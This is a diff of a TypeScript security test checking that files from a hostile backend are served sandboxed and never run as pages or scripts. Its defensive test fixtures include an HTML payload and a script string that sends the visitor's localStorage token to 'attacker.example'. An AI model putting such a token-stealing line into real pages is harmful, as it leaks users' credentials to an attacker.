@@ -4,14 +4,14 @@ import { createBackendCache } from '../../../server/backend-cache'
 import { startHostileBackend, type HostileBackend } from './hostile-backend'
 
 /**
- * Issue 48, point 2: nothing from the backend runs in the site's origin. The backend answers each file with whatever
+ * Nothing from the backend runs in the site's origin. The backend answers each file with whatever
  * type (or none) and bytes a test gives it; whatever it sends, the site's origin serves it sandboxed, `nosniff`, and
  * either as one of the contract's file types (images, PDF, audio) or as a download of the same bytes, never as a page
  * or a script. The JSON calls too: a JSON answer opened as a page runs nothing, and an HTML one is not served as HTML.
  * The browser's side of it (the script of an HTML file never runs) is tests/e2e-server/backend-files.spec.ts.
  */
 
-/** The policy every `/api/` answer carries (the value issue 48 asks for; server/backend-files.ts). */
+/** The policy every `/api/` answer carries (server/backend-files.ts). */
 const SANDBOX_POLICY = "sandbox; default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'unsafe-inline'"
 /** A refused type: bytes to save, never shown. */
 const DOWNLOAD = 'application/octet-stream'
@@ -23,7 +23,7 @@ interface BackendFile {
   disposition?: string
 }
 
-/** The attack of issue 48: an HTML file whose script, from the site's origin, would read the visitor's token. */
+/** The attack: an HTML file whose script, from the site's origin, would read the visitor's token. */
 const HTML_THAT_LOADS_A_SCRIPT = '<!doctype html><script src="/api/image?url=b.js"></script>'
 const SCRIPT_THAT_READS_THE_TOKEN = 'fetch("https://attacker.example/?" + localStorage.token)'
 const SVG_WITH_SCRIPT =
